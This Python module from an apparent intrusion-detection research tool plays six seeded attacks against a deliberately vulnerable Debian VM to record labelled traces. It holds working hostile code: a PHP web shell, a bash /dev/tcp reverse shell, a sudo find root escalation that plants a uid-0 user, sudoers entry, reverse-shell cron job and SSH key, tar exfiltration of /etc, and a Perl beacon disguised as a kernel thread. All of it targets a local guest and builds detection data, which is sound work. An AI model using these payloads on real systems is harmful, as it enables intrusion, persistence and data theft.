"""Attack scenarios against the running Debian guest: real tools and real techniques, seeded, repeatable.

Every scenario goes through a hole the image leaves on purpose (:mod:`vims.collector.guest.debian`:
a weak password, an upload page that keeps ``.php`` files, a sudo rule for ``find``) and talks to the
guest only through its loopback forwards (ssh, http) and the "outside" address
:data:`~vims.collector.guest.qemu.ATTACKER_GUEST_ADDRESS`, a ``guestfwd`` relayed to a port on the host
where this module listens (``attacker_port`` in the guest's state): nothing leaves the machine.

Scenarios (:data:`SCENARIOS`, name -> family):

- ``ssh-bruteforce`` (brute-force): ``hydra`` from the host against the ssh forward with a seeded
  wordlist (common passwords, the weak user's among them at a seeded place); with the password it finds,
  an ssh login by password (``SSH_ASKPASS``: no extra package) that runs a few reconnaissance commands.
- ``webshell-upload`` (webshell): a PHP shell (seeded name) uploaded as a multipart form to the site's
  ``upload.php``, then used over HTTP to run commands and read secrets (``/etc/passwd``, the site's
  ``config.php`` with the database password).
- ``reverse-shell`` (reverse-shell): through the uploaded shell, ``bash -i >& /dev/tcp/...`` from
  ``www-data`` to the attacker address; the host's listener sends commands (``id``...) and reads answers.
- ``privesc-persistence`` (privesc): through the shell, ``sudo -l`` shows the ``find`` rule and
  ``sudo find ... -exec /bin/sh`` runs a root script that adds a uid-0 user, a sudoers.d entry, an
  ``@reboot`` cron job (a reverse shell) and an authorized ssh key; the attacker then logs in as root
  with that key.
- ``data-theft`` (exfiltration): through the shell, a tar+gzip of ``/etc`` and the web root streamed to
  the attacker address (bash ``/dev/tcp``); the host checks it is a valid archive.
- ``hidden-payload`` (hidden-payload): through the shell, a Perl beacon that renames itself to a kernel
  thread's name (``$0``, which sets both ``argv`` and ``comm`` via ``prctl``) and calls the attacker
  address a seeded number of times at seeded intervals, then exits.

Each run returns a :class:`GroundTruth`: the scenario, family, seed, guest name, ``started_ns`` and
``ended_ns`` (host ``time.time_ns()``, the clock of the tracer's ``ts_ns``), ``anchors`` (the guest pids
where the attack's process trees start, each with why: sshd pids from the journal for hydra's
connections and the logins; the ``sh -c`` the web shell runs for each command, which prints ``$$``;
the reverse shell's and the payload's own pids, orphaned by ``setsid``, as they print them) and
``detail`` (counts and what was seen). A traced process belongs to the attack when its pid is an anchor
or its parent chain reaches one within the window; long-lived normal processes (nginx, php-fpm's master
and workers, sshd's listener) are never anchors. The upload itself is handled inside a php-fpm worker
that normal requests share, so it has no anchor of its own.

:func:`run_scenario` removes what earlier runs left (:func:`reset`) before it starts the clock;
:func:`reset` alone leaves the guest as the image made it (no uploads, added users, keys, cron jobs or
sudoers entries, no attack process). An attack at a seeded moment of the normal workload, traced or
not, is the recorder's (:func:`vims.collector.guest.recording.play_run`).
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import random
import re
import secrets
import shlex
import shutil
import socket
import subprocess
import tarfile
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from vims.collector.guest.debian import DB_PASSWORD, SECRETS_FILE, UPLOAD_DIR, UPLOAD_PAGE, WEAK_USER
from vims.collector.guest.qemu import ATTACKER_GUEST_ADDRESS
from vims.errors import InputError, MissingDependencyError, VimsError

if TYPE_CHECKING:
    from vims.collector.guest.qemu import Guest

__all__ = ["SCENARIOS", "GroundTruth", "Scenario", "check_scenario", "reset", "run_scenario", "upload_file"]

#: Common passwords the brute-force wordlist is drawn from (the weak user's is added at a seeded place).
COMMON_PASSWORDS = (
    "123456", "password", "qwerty", "letmein", "dragon", "monkey", "football", "iloveyou", "admin",
    "welcome", "abc123", "master", "shadow", "trustno1", "princess", "baseball", "superman", "michael",
    "passw0rd", "changeme", "hunter2", "starwars", "whatever", "freedom",
)  # fmt: skip
WORDLIST_SIZE = 12
#: Names the uploaded shell takes (seeded), as attackers disguise it among pictures.
SHELL_NAMES = ("avatar.php", "thumb.php", "img_2291.php", "profile.php", "logo.php", "cache.php")
SHELL_PHP = "<?php if (isset($_REQUEST['c'])) { header('Content-Type: text/plain'); system($_REQUEST['c']); } ?>\n"
#: Names of the uid-0 user, its sudoers.d and cron.d files (seeded): what :func:`reset` looks for.
PERSIST_NAMES = ("sysbackup", "systemd-netd", "apt-sync", "syslogd")
ATTACKER_KEY_COMMENT = "root@kali"
#: The name the hidden payload takes (a kernel worker thread's, as ``ps`` shows them).
HIDDEN_NAMES = ("[kworker/0:2]", "[kworker/1:1H]", "[ksoftirqd/1]", "[kthreadd]")
_TCP = f"/dev/tcp/{ATTACKER_GUEST_ADDRESS[0]}/{ATTACKER_GUEST_ADDRESS[1]}"


@dataclass
class GroundTruth:
    """What one attack run did, for labelling the trace (see the module docstring).

    Attributes
    ----------
    scenario, family : str
        The scenario's name and its family (``brute-force``, ``webshell``...).
    seed : int
        The seed it ran with.
    vm : str
        The guest's name.
    started_ns, ended_ns : int
        Host ``time.time_ns()`` at the first attack action and after its last process ended.
    anchors : list of dict
        ``{"pid": int, "why": str}``: guest pids where the attack's process trees start.
    detail : dict
        What happened: counts, answers, names (per scenario).
    """

    scenario: str
    family: str
    seed: int
    vm: str
    started_ns: int = 0
    ended_ns: int = 0
    anchors: list[dict[str, Any]] = field(default_factory=list)
    detail: dict[str, Any] = field(default_factory=dict)

    def anchor(self, pid: int, why: str) -> None:
        """Add ``pid`` as an anchor (once; the first reason stays)."""
        if pid > 1 and all(a["pid"] != pid for a in self.anchors):
            self.anchors.append({"pid": int(pid), "why": why})

    @property
    def pids(self) -> set[int]:
        """The anchors' pids."""
        return {int(a["pid"]) for a in self.anchors}

    def to_json(self) -> str:
        """The ground truth as one JSON object."""
        return json.dumps(asdict(self), sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> GroundTruth:
        """The ground truth :meth:`to_json` wrote."""
        data = json.loads(text)
        return cls(**{k: data[k] for k in cls.__dataclass_fields__ if k in data})


@dataclass(frozen=True)
class Scenario:
    """One attack scenario: its name, family, a one-line description and the function that plays it."""

    name: str
    family: str
    describe: str
    play: Callable[[_Attack], None] = field(repr=False)


class _Attack:
    """The state of one run: the guest, the seeded random source, the ground truth and the log."""

    def __init__(self, guest: Guest, truth: GroundTruth, say: Callable[[str], None]) -> None:
        self.guest, self.truth, self.say = guest, truth, say
        self.rng = random.Random(f"{truth.scenario}:{truth.seed}")
        self.tmp = Path(tempfile.mkdtemp(prefix="vims-attack-"))

    def begin(self) -> None:
        """Start the clock: the next thing done is the attack's."""
        self.truth.started_ns = time.time_ns()

    def end(self) -> None:
        """Stop the clock: every attack process has ended."""
        self.truth.ended_ns = time.time_ns()


# -- host-side helpers ----------------------------------------------------------------------------------
def _opener() -> urllib.request.OpenerDirector:
    return urllib.request.build_opener(urllib.request.ProxyHandler({}))  # loopback, never a proxy


def _http(guest: Guest, path: str, body: bytes | None = None, headers: dict[str, str] | None = None,
          timeout: float = 180.0) -> str:  # fmt: skip
    assert guest.http_address is not None
    host, port = guest.http_address
    request = urllib.request.Request(f"http://{host}:{port}/{path}", data=body, headers=headers or {})
    try:
        with _opener().open(request, timeout=timeout) as answer:
            return str(answer.read().decode("utf-8", "replace"))
    except OSError as exc:
        raise VimsError(f"{'POST' if body is not None else 'GET'} /{path} on guest {guest.name!r}: {exc}") from None


def _multipart(field_name: str, filename: str, content: bytes) -> tuple[bytes, str]:
    """A ``multipart/form-data`` body holding one file, and its content type."""
    boundary = "----vims" + secrets.token_hex(8)
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; filename=\"{filename}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode()  # fmt: skip
    return head + content + f"\r\n--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


class _Listener:
    """The attacker's listener on the host port the guest's attacker address is relayed to."""

    def __init__(self, port: int) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            self.sock.bind(("127.0.0.1", port))
        except OSError as exc:
            self.sock.close()
            raise MissingDependencyError(f"the attacker port 127.0.0.1:{port} is taken: {exc}") from None
        self.sock.listen(8)

    def accept(self, timeout: float) -> socket.socket:
        """The next connection from the guest (waits at most ``timeout`` seconds)."""
        self.sock.settimeout(timeout)
        try:
            conn, _ = self.sock.accept()
        except TimeoutError:
            raise VimsError(f"no connection from the guest to the attacker address within {timeout:g} s") from None
        conn.settimeout(timeout)
        return conn

    def close(self) -> None:
        """Stop listening."""
        self.sock.close()

    def __enter__(self) -> _Listener:
        return self

    def __exit__(self, *_exc: object) -> None:
        self.close()


def _listener(attack: _Attack) -> _Listener:
    port = attack.guest.state.get("attacker_port")
    if not port:
        raise InputError(f"guest {attack.guest.name!r} was started without the attacker address (an older "
                         "start): restart it (`vims guest down` then `vims guest up --image debian`)")
    return _Listener(int(port))


def _recv_all(conn: socket.socket) -> bytes:
    chunks = []
    while data := conn.recv(65536):
        chunks.append(data)
    return b"".join(chunks)


# -- guest-side evidence --------------------------------------------------------------------------------
def _journal_cursor(guest: Guest) -> str:
    text = guest.run("journalctl --sync 2>/dev/null; journalctl -n 0 --show-cursor -q", check=True)
    match = re.search(r"cursor: (\S+)", text)
    return match.group(1) if match else ""


def _sshd_entries(guest: Guest, cursor: str) -> dict[int, list[str]]:
    """The journal's sshd messages since ``cursor``, by the pid that logged them."""
    # No _COMM=sshd match: with a match, --after-cursor skips the first matching entry when the cursor's
    # own entry does not match (systemd 252); the filter is applied here instead.
    after = f"--after-cursor={shlex.quote(cursor)}" if cursor else "-b"
    text = guest.run(f"journalctl --sync 2>/dev/null; journalctl {after} -o json "
                     "--output-fields=_PID,_COMM,MESSAGE -q", check=True)  # fmt: skip
    by_pid: dict[int, list[str]] = {}
    for line in text.splitlines():
        with contextlib.suppress(ValueError, KeyError, TypeError):
            entry = json.loads(line)
            if entry.get("_COMM") == "sshd":
                by_pid.setdefault(int(entry["_PID"]), []).append(str(entry["MESSAGE"]))
    return by_pid


def _service_pid(guest: Guest, unit: str) -> int:
    text = guest.run(f"systemctl show -p MainPID --value {unit}").strip()
    return int(text) if text.isdigit() else 0


_PID_LINE = re.compile(r"@@pid (\d+) (\d+)")


def _pid_of(answer: str) -> tuple[int, int]:
    """The ``(pid, parent)`` an ``echo "@@pid $$ $PPID"`` printed."""
    match = _PID_LINE.search(answer)
    if not match:
        raise VimsError(f"no pid in the guest's answer: {answer[:200]!r}")
    return int(match.group(1)), int(match.group(2))


# -- the web shell ----------------------------------------------------------------------------------------
def upload_file(guest: Guest, filename: str, content: bytes) -> str:
    """Upload ``content`` as ``filename`` through the site's vulnerable upload page, as a browser would
    (a multipart POST to the http forward); return its path under the web root (``uploads/NAME``).

    Raises
    ------
    VimsError
        When the page did not store it.
    """
    body, kind = _multipart("file", filename, content)
    answer = _http(guest, UPLOAD_PAGE[0], body, {"Content-Type": kind})
    if f"stored uploads/{filename}" not in answer:
        raise VimsError(f"the upload page did not store {filename}: {answer[:200]!r}")
    return f"uploads/{filename}"


class _WebShell:
    """The PHP shell the attacker uploaded: each command a POST, run by ``sh -c`` under php-fpm."""

    def __init__(self, attack: _Attack, name: str) -> None:
        self.attack, self.name = attack, name
        self.commands = 0

    @classmethod
    def upload(cls, attack: _Attack) -> _WebShell:
        """Upload the shell through the site's upload page (a multipart POST, as a browser sends it)."""
        name = attack.rng.choice(SHELL_NAMES)
        upload_file(attack.guest, name, SHELL_PHP.encode())
        attack.truth.detail["shell"] = f"{UPLOAD_DIR}/{name}"
        attack.say(f"uploaded {name} through /{UPLOAD_PAGE[0]}")
        return cls(attack, name)

    def run(self, command: str, why: str | None = None) -> str:
        """Run ``command`` through the shell; anchor the ``sh -c`` that ran it; return its output."""
        wrapped = f'echo "@@pid $$ $PPID"; {{ {command}\n}} 2>&1'
        body = urllib.parse.urlencode({"c": wrapped}).encode()
        answer = _http(self.attack.guest, f"uploads/{self.name}", body,
                       {"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
        pid, _parent = _pid_of(answer)
        self.attack.truth.anchor(pid, why or f"web shell command: {command.splitlines()[0][:60]}")
        self.commands += 1
        self.attack.truth.detail["webshell_commands"] = self.commands
        return answer.split("\n", 1)[1] if "\n" in answer else ""


# -- the scenarios ---------------------------------------------------------------------------------------------
def _hydra(attack: _Attack) -> tuple[str, int]:
    """Run hydra with a seeded wordlist; the password it found and the wordlist's size."""
    user, password = WEAK_USER
    words = attack.rng.sample(COMMON_PASSWORDS, WORDLIST_SIZE - 1)
    words.insert(attack.rng.randint(WORDLIST_SIZE // 3, WORDLIST_SIZE - 1), password)
    (attack.tmp / "words.txt").write_text("\n".join(words) + "\n")
    assert attack.guest.ssh_address is not None
    cmd = ["hydra", "-l", user, "-P", "words.txt", "-t", "4", "-f", "-I", "-o", "found.json", "-b", "json",
           "-s", str(attack.guest.ssh_address[1]), "127.0.0.1", "ssh"]  # fmt: skip
    proc = subprocess.run(cmd, cwd=attack.tmp, capture_output=True, text=True, timeout=600, check=False)
    found = ""
    with contextlib.suppress(OSError, ValueError, KeyError, IndexError):
        found = json.loads((attack.tmp / "found.json").read_text())["results"][0]["password"]
    if not found:
        raise VimsError(f"hydra found no password (exit {proc.returncode}): {(proc.stdout + proc.stderr)[-400:]}")
    attack.truth.detail.update({"wordlist": len(words), "position": words.index(password) + 1,
                                "hydra_found": found, "hydra_exit": proc.returncode})  # fmt: skip
    return found, len(words)


def _password_login(attack: _Attack, user: str, password: str, command: str) -> str:
    """An ssh login by password with no terminal: ssh asks ``SSH_ASKPASS``, which prints it."""
    askpass = attack.tmp / "askpass"
    askpass.write_text('#!/bin/sh\nprintf "%s\\n" "$VIMS_ATTACK_PASSWORD"\n')
    askpass.chmod(0o700)
    env = {**os.environ, "SSH_ASKPASS": str(askpass), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0",
           "VIMS_ATTACK_PASSWORD": password}  # fmt: skip
    ssh = attack.guest.ssh_command(user)
    key = ssh.index("-i")
    ssh = [("BatchMode=no" if o == "BatchMode=yes" else o) for o in ssh[:key] + ssh[key + 2 :]]
    cmd = [*ssh[:1], "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password",
           "-o", "NumberOfPasswordPrompts=1", *ssh[1:], command]  # fmt: skip
    proc = subprocess.run(cmd, env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120,
                          check=False, start_new_session=True)  # fmt: skip
    if proc.returncode != 0:
        raise VimsError(f"ssh {user} with password failed (exit {proc.returncode}): {proc.stderr[-300:]}")
    return proc.stdout


#: The user a line of sshd's names ("for alice", "for user alice(uid=1001)", "user alice 10.0.2.2").
_USER_IN_LOG = re.compile(
    r"\b(?:for|user)\s+(?:invalid user\s+|user\s+)?([a-z_][a-z0-9_-]*)(?=\(|\s+from\b|\s+\d|\s*$)"
)
_RECON = 'echo "@@pid $$ $PPID"; id; uname -a; wc -l < /etc/passwd; ls -la ~; sudo -n -l 2>&1 | tail -n 2'


def _ssh_bruteforce(attack: _Attack) -> None:
    guest, truth = attack.guest, attack.truth
    cursor = _journal_cursor(guest)
    listener_pid = _service_pid(guest, "ssh")
    attack.begin()
    password, _words = _hydra(attack)
    attack.say(f"hydra found {WEAK_USER[0]}'s password: {password}")
    answer = _password_login(attack, WEAK_USER[0], password, _RECON)
    time.sleep(1.0)  # the login's sshd processes end after the connection closes
    attack.end()
    shell, session = _pid_of(answer)
    uid = re.search(r"uid=\d+\([\w-]+\)", answer)
    truth.detail.update({"login_uid": uid.group(0) if uid else "", "login_shell": shell,
                         "login_session": session})  # fmt: skip
    failed = accepted = 0
    for pid, messages in _sshd_entries(guest, cursor).items():
        text = "\n".join(messages)
        failed += text.count(f"Failed password for {WEAK_USER[0]} ")
        accepted += text.count(f"Accepted password for {WEAK_USER[0]} ")
        # hydra's connections name the weak user or none (a probe that closes early); every other
        # connection (the workload's key logins, the control channel) names its own user
        users = set(_USER_IN_LOG.findall(text))
        if pid != listener_pid and users <= {WEAK_USER[0]}:
            truth.anchor(pid, f"sshd of a hydra connection or the login: {messages[0][:80]}")
    truth.anchor(shell, "the login's shell (its own $$)")
    truth.detail.update({"failed_passwords": failed, "accepted_passwords": accepted,
                         "sshd_connections": len(truth.anchors) - 1})  # fmt: skip


def _webshell(attack: _Attack) -> None:
    attack.begin()
    shell = _WebShell.upload(attack)
    detail = attack.truth.detail
    detail["id"] = shell.run("id").strip()
    detail["ps"] = shell.run("ps -o pid,ppid,user,comm -p $$ -p $PPID").strip()
    detail["uname"] = shell.run("uname -a").strip()
    passwd = shell.run("cat /etc/passwd")
    detail["passwd_users"] = sum(1 for line in passwd.splitlines() if line.count(":") >= 6)
    config = shell.run(f"cat {SECRETS_FILE}")
    detail["db_password_found"] = DB_PASSWORD in config
    shell.run("ls -la /var/www/html /home; find /usr -perm -4000 -type f 2>/dev/null")
    attack.end()


def _converse(conn: socket.socket, commands: list[str]) -> dict[str, str]:
    """Send each command to the reverse shell and read its answer up to a marker it prints."""
    answers: dict[str, str] = {}
    reader = conn.makefile("r", encoding="utf-8", errors="replace")
    for index, command in enumerate(commands):
        conn.sendall(f"{command}; printf '@@%s\\n' done{index}\n".encode())
        lines = []
        for line in reader:
            if line.strip().endswith(f"@@done{index}"):
                break
            if "@@%s" not in line:  # not the command line an interactive bash echoes after its prompt
                lines.append(line)
        answers[command] = "".join(lines)
    conn.sendall(b"exit\n")
    with contextlib.suppress(OSError):
        reader.read()  # until the shell closes the connection
    return answers


def _reverse_shell(attack: _Attack) -> None:
    with _listener(attack) as listener:
        attack.begin()
        shell = _WebShell.upload(attack)
        launch = f"setsid bash -c 'bash -i >& {_TCP} 0>&1' >/dev/null 2>&1 </dev/null &"
        shell.run(launch, "web shell command that started the reverse shell")
        conn = listener.accept(300)  # a fully traced guest under TCG is slow
        with conn:
            commands = ['echo "@@pid $$ $PPID"', "id", "hostname", "uname -r", "ls -la /home /var/www/html",
                        "ps -o pid,ppid,user,comm,args -p $$ -p $PPID"]  # fmt: skip
            answers = _converse(conn, commands)
        attack.end()
    pid, parent = _pid_of(answers[commands[0]])
    attack.truth.anchor(pid, "the reverse shell (bash -i on the attacker connection)")
    ps = answers[commands[-1]]
    if re.search(rf"^\s*{parent}\s.*\bbash\b", ps, re.M):
        attack.truth.anchor(parent, "the bash -c that started the reverse shell")
    uid = re.search(r"uid=\d+\([\w-]+\).*", answers["id"])
    attack.truth.detail.update({"id": uid.group(0) if uid else "", "hostname": answers["hostname"].split()[-1],
                                "ps": ps.strip(), "commands": len(commands)})  # fmt: skip


def _attacker_key(attack: _Attack) -> tuple[Path, str, str]:
    """A new ed25519 key pair on the host: private key path, public line and fingerprint."""
    key = attack.tmp / "id_attacker"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", ATTACKER_KEY_COMMENT, "-f", str(key)],
                   check=True, capture_output=True, timeout=60)  # fmt: skip
    public = key.with_suffix(".pub").read_text().strip()
    finger = subprocess.run(["ssh-keygen", "-lf", str(key.with_suffix(".pub"))], check=True, capture_output=True,
                            text=True, timeout=60).stdout.split()[1]  # fmt: skip
    return key, public, finger


def _root_script(name: str, password: str, public: str) -> str:
    """What the attacker runs as root: a uid-0 user, sudoers.d, an ``@reboot`` cron job, an ssh key."""
    beacon = f"bash -c 'bash -i >& {_TCP} 0>&1'"
    return "\n".join((
        'echo "@@root $(id -u) $$"',
        f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}",
        f"echo '{name}:{password}' | chpasswd",
        f"echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{name} && chmod 440 /etc/sudoers.d/{name}",
        f"echo \"@reboot root {beacon}\" > /etc/cron.d/{name}",
        "mkdir -p /root/.ssh && chmod 700 /root/.ssh",
        f"echo '{public}' >> /root/.ssh/authorized_keys",
        f"grep -c . /etc/sudoers.d/{name} /etc/cron.d/{name}; getent passwd {name}",
    ))  # fmt: skip


def _privesc(attack: _Attack) -> None:
    guest, truth, detail = attack.guest, attack.truth, attack.truth.detail
    key, public, finger = _attacker_key(attack)
    name, password = attack.rng.choice(PERSIST_NAMES), secrets.token_hex(6)
    cursor = _journal_cursor(guest)
    attack.begin()
    shell = _WebShell.upload(attack)
    detail["sudo_l"] = shell.run("sudo -n -l 2>&1 | tail -n 3").strip()
    script = base64.b64encode(_root_script(name, password, public).encode()).decode()
    answer = shell.run(f"sudo -n /usr/bin/find {UPLOAD_DIR} -maxdepth 0 -exec /bin/sh -c "
                       f"'echo {script} | base64 -d | /bin/sh' \\;", "web shell command: sudo find -exec sh (root)")
    root = re.search(r"@@root (\d+) (\d+)", answer)
    detail["root_uid"] = int(root.group(1)) if root else None
    ssh = [*attack.guest.ssh_command("root")]
    ssh[ssh.index("-i") + 1] = str(key)
    login = [*ssh[:1], "-o", "IdentitiesOnly=yes", *ssh[1:], 'echo "@@pid $$ $PPID"; id -u; hostname']
    proc = subprocess.run(login, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120, check=False)
    time.sleep(1.0)
    attack.end()
    detail.update({"user": name, "sudoers": f"/etc/sudoers.d/{name}", "cron": f"/etc/cron.d/{name}",
                   "key_fingerprint": finger, "key_login_exit": proc.returncode})  # fmt: skip
    if proc.returncode == 0:
        shell_pid, _session = _pid_of(proc.stdout)
        truth.anchor(shell_pid, "the root login with the planted key (its own $$)")
        detail["key_login_uid"] = int(proc.stdout.split("\n")[1])
    for pid, messages in _sshd_entries(guest, cursor).items():
        if any(finger in m for m in messages):
            truth.anchor(pid, "sshd of the root login with the planted key")


def _data_theft(attack: _Attack) -> None:
    received: dict[str, bytes] = {}
    with _listener(attack) as listener:
        attack.begin()
        shell = _WebShell.upload(attack)

        def receive() -> None:
            with contextlib.suppress(VimsError, OSError), listener.accept(300) as conn:
                received["data"] = _recv_all(conn)

        thread = threading.Thread(target=receive, daemon=True)
        thread.start()
        shell.run(f"cd / && bash -c 'tar -czf - etc var/www/html 2>/dev/null > {_TCP}'; echo sent $?")
        thread.join(300)
        attack.end()
    data = received.get("data", b"")
    names: list[str] = []
    with contextlib.suppress(tarfile.TarError, OSError, EOFError), tarfile.open(fileobj=io.BytesIO(data),
                                                                                mode="r:gz") as archive:
        names = archive.getnames()
    attack.truth.detail.update({"bytes": len(data), "members": len(names), "has_etc_passwd": "etc/passwd" in names,
                                "has_config": SECRETS_FILE.lstrip("/") in names})  # fmt: skip
    if not names:
        raise VimsError(f"the host received {len(data)} bytes that are not a tar.gz archive")


_PAYLOAD = """$0 = "{name}";
use IO::Socket::INET;
for my $i (1 .. {count}) {{
    my $s = IO::Socket::INET->new(PeerAddr => "{host}", PeerPort => {port}, Proto => "tcp", Timeout => 10);
    if ($s) {{ print $s "beacon $i $$\\n"; my $r = <$s>; close $s; }}
    select(undef, undef, undef, {interval}) if $i < {count};
}}
"""


def _beacons(listener: _Listener, seen: list[str], stop: threading.Event) -> None:
    """Answer each beacon's connection and keep its line."""
    while not stop.is_set():
        with contextlib.suppress(VimsError, OSError):
            conn = listener.accept(1.0)
            with conn:
                line = conn.makefile("r", encoding="utf-8", errors="replace").readline().strip()
                conn.sendall(b"ok\n")
                if line:
                    seen.append(line)


def _hidden_payload(attack: _Attack) -> None:
    rng, detail = attack.rng, attack.truth.detail
    name, count, interval = rng.choice(HIDDEN_NAMES), rng.randint(4, 7), round(rng.uniform(1.5, 3.0), 2)
    code = _PAYLOAD.format(name=name, count=count, interval=interval, host=ATTACKER_GUEST_ADDRESS[0],
                           port=ATTACKER_GUEST_ADDRESS[1])  # fmt: skip
    seen: list[str] = []
    stop = threading.Event()
    with _listener(attack) as listener:
        thread = threading.Thread(target=_beacons, args=(listener, seen, stop), daemon=True)
        thread.start()
        attack.begin()
        shell = _WebShell.upload(attack)
        script = base64.b64encode(code.encode()).decode()
        answer = shell.run(f'setsid perl -e "$(echo {script} | base64 -d)" >/dev/null 2>&1 </dev/null & '
                           'echo "@@spawned $!"', "web shell command that started the hidden payload")  # fmt: skip
        spawned = re.search(r"@@spawned (\d+)", answer)
        if not spawned:
            raise VimsError(f"the hidden payload did not start: {answer[:200]!r}")
        pid = int(spawned.group(1))
        attack.truth.anchor(pid, f"the hidden payload (perl renamed to {name})")
        deadline = time.monotonic() + count * (interval + 15) + 60
        while not seen and time.monotonic() < deadline:
            time.sleep(0.2)
        detail["seen_as"] = attack.guest.run(f"ps -o pid=,ppid=,user=,comm=,args= -p {pid}").strip()
        while time.monotonic() < deadline and attack.guest.execute(f"kill -0 {pid}")[0] == 0:
            time.sleep(1.0)
        attack.end()
        stop.set()
        thread.join(5)
    detail.update({"name": name, "planned": count, "interval_s": interval, "beacons": len(seen),
                   "beacon_lines": seen[:10], "pid": pid})  # fmt: skip


SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario("ssh-bruteforce", "brute-force", "hydra guesses a user's ssh password, then logs in", _ssh_bruteforce),
        Scenario("webshell-upload", "webshell", "a PHP shell uploaded through upload.php reads secrets, runs "
                 "commands", _webshell),
        Scenario("reverse-shell", "reverse-shell", "bash -i from www-data to a listener on the attacker address",
                 _reverse_shell),
        Scenario("privesc-persistence", "privesc", "sudo find -exec gives root; a uid-0 user, sudoers.d, cron "
                 "and an ssh key stay", _privesc),
        Scenario("data-theft", "exfiltration", "tar.gz of /etc and the web root sent to the attacker address",
                 _data_theft),
        Scenario("hidden-payload", "hidden-payload", "a beacon renamed to a kernel thread calls the attacker "
                 "address", _hidden_payload),
    )
}  # fmt: skip


def check_scenario(guest: Guest, name: str | None = None) -> None:
    """Raise :class:`InputError` for an unknown scenario ``name`` or a guest that is not Debian."""
    if name is not None and name not in SCENARIOS:
        raise InputError(f"unknown attack scenario {name!r}: one of {', '.join(SCENARIOS)}")
    if guest.kind != "debian" or guest.http_address is None:
        raise InputError(f"guest {guest.name!r} is not a Debian guest: the attack scenarios need "
                         "`vims guest up --image debian`")  # fmt: skip


def run_scenario(guest: Guest, name: str, seed: int = 0, log: Callable[[str], None] | None = None) -> GroundTruth:
    """Play the attack scenario ``name`` on the running Debian ``guest`` and return its ground truth.

    Parameters
    ----------
    guest : Guest
        A running Debian guest started with the attacker address (``attacker_port`` in its state).
    name : str
        One of :data:`SCENARIOS`.
    seed : int
        Seeds the scenario's choices (wordlist, file and user names, counts, intervals).
    log : callable, optional
        Receives one line per step.

    Returns
    -------
    GroundTruth
        Window, anchors and detail of the run (see the module docstring).

    Raises
    ------
    InputError
        For an unknown name or a guest that is not the Debian guest.
    VimsError
        When a step of the attack fails (the guest is left for :func:`reset`).
    """
    check_scenario(guest, name)
    scenario = SCENARIOS[name]
    say = log or (lambda _msg: None)
    reset(guest)
    truth = GroundTruth(scenario=name, family=scenario.family, seed=seed, vm=guest.name)
    attack = _Attack(guest, truth, say)
    try:
        scenario.play(attack)
    finally:
        shutil.rmtree(attack.tmp, ignore_errors=True)
    truth.detail["seconds"] = round((truth.ended_ns - truth.started_ns) / 1e9, 2)
    say(f"{name}: {len(truth.anchors)} anchors in {truth.detail['seconds']} s")
    return truth


def _reset_script() -> str:
    names = " ".join(PERSIST_NAMES)
    return "\n".join((
        # attack processes orphaned by setsid: www-data's processes whose parent is init
        "for p in $(ps -eo pid=,ppid=,user= | awk '$2 == 1 && $3 == \"www-data\" {print $1}'); do kill -9 $p; done",
        f"find {UPLOAD_DIR} -mindepth 1 -delete",
        "for u in $(awk -F: '$3 == 0 && $1 != \"root\" {print $1}' /etc/passwd); do "
        "sed -i \"/^$u:/d\" /etc/passwd /etc/shadow; done",
        f"for n in {names}; do rm -f /etc/sudoers.d/$n /etc/cron.d/$n; done",
        f"keys=/root/.ssh/authorized_keys; if [ -f $keys ]; then sed -i '/ {ATTACKER_KEY_COMMENT}$/d' $keys; fi",
        "echo reset",
    ))  # fmt: skip


def reset(guest: Guest) -> str:
    """Remove what the attack scenarios leave: uploads, uid-0 users, their sudoers.d and cron.d files,
    the attacker's ssh key, and attack processes still running (``www-data`` orphans).

    Returns the guest's answer (``reset``).
    """
    check_scenario(guest)
    return guest.run(_reset_script(), timeout=60, check=True).strip()
